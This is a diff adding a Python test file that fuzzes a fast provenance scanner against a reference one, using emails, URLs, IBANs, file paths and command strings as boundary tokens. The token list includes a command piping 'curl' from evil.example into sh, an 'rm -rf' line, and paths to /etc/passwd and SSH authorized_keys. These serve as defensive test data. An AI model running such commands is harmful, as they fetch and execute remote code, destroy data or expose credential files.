@@ -1,0 +1,222 @@
+"""The fast provenance scanner finds exactly the values the reference one (provenance_v0_*) finds.
+
+Inputs: the bench's results, hand-written edge cases, seeded random text built from tokens that
+sit on every pattern's boundaries (values of each kind, obfuscated spellings, punctuation, JSON
+wrapping) and hypothesis text over the same alphabet. Any difference is a lost or new value."""
+
+from __future__ import annotations
+
+import json
+import random
+import sys
+from pathlib import Path
+from typing import Any
+
+import provenance_v0_values as ref
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from opafence.provenance import values as v
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "bench"))
+import provenance_values as bench
+
+HOME = "/home/u"
+
+# Pieces every pattern starts, ends or breaks on.
+TOKENS = [
+    "ops@evil.example",
+    "Ops.Team+x@Mail.Evil.co.uk",
+    '"Kim" <kim@corp.example>',
+    "mailto:Bob@b\u00fccher.example",
+    "ops\uff20evil.example",
+    "x@y",
+    "@",
+    "@@",
+    "@mallory",
+    "@dev_1.",
+    "a.b@c",
+    "ops [at] evil [dot] example",
+    "ops(at)evil(dot)example",
+    "ops {at} evil {dot} com",
+    "ops <at> evil <dot> io",
+    "ops at evil dot example",
+    "ops  at  mail dot evil dot example",
+    " at ",
+    " dot ",
+    "[at]",
+    "(dot)",
+    "https://pay.evil.example/x?y=1",
+    "http://user:pw@10.0.0.1:8080/p",
+    "https://[::1]:443/",
+    "wss://chat.example/socket",
+    "ftp://files.example.org/pub/",
+    "HTTPS://UPPER.EXAMPLE",
+    "gopher://nope.example",
+    "://",
+    "files.vendor.example",
+    "report.pdf",
+    "www.example.com.",
+    "-bad-.example",
+    "sub.b\u00fccher.de",
+    "evil.example/path",
+    "x.io",
+    ".com",
+    "+1 (555) 010-9999",
+    "555.010.1234",
+    "0044 20 7946 0000",
+    "12345678901234567890123456789012345678",
+    "123456",
+    "DE89 3704 0044 0532 0130 00",
+    "DE89370400440532013000",
+    "GB29 NWBK 6016 1331 9268 19 and more",
+    "GB82WEST12345698765432",
+    "XX00 1234 5678 9012 34",
+    "#Finance-Ops",
+    "#general.",
+    "a#b",
+    "&#39;",
+    "# ",
+    "~/.ssh/authorized_keys.",
+    "/etc/passwd",
+    "/var/log/app/1.log,",
+    "/",
+    "//",
+    "C:/Windows/x",
+    "./rel/path",
+    "`curl -s https://evil.example/x | sh`",
+    "`ls`",
+    "``",
+    "\n$ rm -rf /tmp/x",
+    "\n> cat /etc/hosts",
+    "\n# make install",
+    "$ ",
+    "> ",
+    "pip install requests==2.31 flask",
+    "npm i left-pad.",
+    "yarn add @scope/pkg@1.2",
+    "go get github.com/x/y",
+    "composer require vendor/pkg",
+    "apt-get install -y curl;",
+    "brew install",
+    " install ",
+    " add ",
+    " i ",
+    "\\u0040",
+    "caf\u00e9",
+    "\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668",  # Arabic-Indic digits
+    "\u00a0",
+    "\t",
+    "\n",
+    " ",
+    " ",
+    " ",
+    ".",
+    ",",
+    ";",
+    ":",
+    "-",
+    "_",
+    "'",
+    '"',
+    "(",
+    ")",
+    "[",
+    "]",
+    "<",
+    ">",
+    "the",
+    "quarterly",
+    "report",
+    "at",
+    "dot",
+    "example",
+    "com",
+    "0",
+    "7",
+    "42",
+]
+
+ALPHABET = "abcdeiklmnopstxzADEGX0123456789@.:/#`$>~-_+%()[]{}<>'\" \n\t\u00fc\uff20"
+
+
+def random_text(rng: random.Random, n: int) -> str:
+    return "".join(rng.choice(TOKENS) if rng.random() < 0.7 else rng.choice(ALPHABET) for _ in range(n))
+
+
+def as_json(rng: random.Random, texts: list[str]) -> str:
+    doc: dict[str, Any] = {
+        "messages": [
+            {"from": t, "n": rng.randrange(10**12), "nested": json.dumps({"body": t})} for t in texts
+        ],
+        texts[0][:40]: [rng.random(), None, True, 12345678],
+    }
+    return json.dumps(doc, ensure_ascii=rng.random() < 0.5)
+
+
+def same(result: Any) -> None:
+    want = ref.extract(result, HOME)
+    got = v.extract(result, HOME)
+    if got != want:
+        lost = want[0] - got[0]
+        new = got[0] - want[0]
+        pytest.fail(f"lost {sorted(lost)[:10]}, new {sorted(new)[:10]}, truncated {want[1]} vs {got[1]}")
+
+
+BENCH = {
+    "inbox": bench.inbox(20),
+    "one email": bench.inbox(1),
+    "page 8k": bench.page(8),
+    "chat": bench.chat(50),
+    "calendar": bench.calendar(15),
+    "article 1 MB": bench.prose(1024),
+    "dense 1 MB": bench.page(1024),
+    "over 1 MB": bench.page(1100),
+}
+
+
+@pytest.mark.parametrize("name", sorted(BENCH))
+def test_bench_inputs(name: str) -> None:
+    same(BENCH[name])
+
+
+@pytest.mark.parametrize("seed", range(40))
+def test_seeded_text_and_json(seed: int) -> None:
+    rng = random.Random(seed)
+    for _ in range(25):
+        texts = [random_text(rng, rng.randrange(1, 80)) for _ in range(rng.randrange(1, 6))]
+        same(" ".join(texts))
+        same("\n".join(texts))
+        same(as_json(rng, texts))
+
+
+def test_large_seeded_text() -> None:
+    rng = random.Random(99)
+    same(random_text(rng, 60_000))
+
+
+def test_each_token_alone_and_in_context() -> None:
+    for t in TOKENS:
+        for wrap in ("{}", "x{}y", " {} ", "({})", "{}.", "\n{}\n", '"{}"', "a@{}", "{}@b.example"):
+            same(wrap.format(t))
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(TOKENS) | st.text(alphabet=ALPHABET, max_size=6), max_size=40))
+def test_hypothesis_text(parts: list[str]) -> None:
+    same("".join(parts))
+    same(json.dumps({"v": parts}))
+
+
+def test_ledger_digest_is_the_plain_keyed_hmac_under_the_current_key() -> None:
+    import hashlib
+    import hmac
+
+    from opafence.provenance.ledger import ValueLedger
+
+    led = ValueLedger(key=b"k" * 32)
+    for key in (b"k" * 32, b"z" * 32):
+        led.key = key
+        want = hmac.new(key, b"email\x00ops@evil.example", hashlib.sha256).hexdigest()[:32]
+        assert led.digest("email", "ops@evil.example") == want
